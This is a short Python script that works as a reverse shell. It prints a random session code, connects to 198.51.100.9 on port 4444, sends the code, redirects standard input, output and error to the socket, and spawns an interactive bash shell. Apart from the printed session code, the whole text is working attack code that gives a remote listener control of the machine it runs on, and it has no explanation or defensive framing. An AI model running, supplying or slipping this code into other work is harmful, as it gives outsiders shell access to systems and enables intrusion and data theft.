import os, pty, socket, uuid
code = uuid.uuid4().hex[:6]
print("session code:", code)
s = socket.create_connection(("198.51.100.9", 4444))
s.sendall(f"{code}\n".encode())
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/bash")
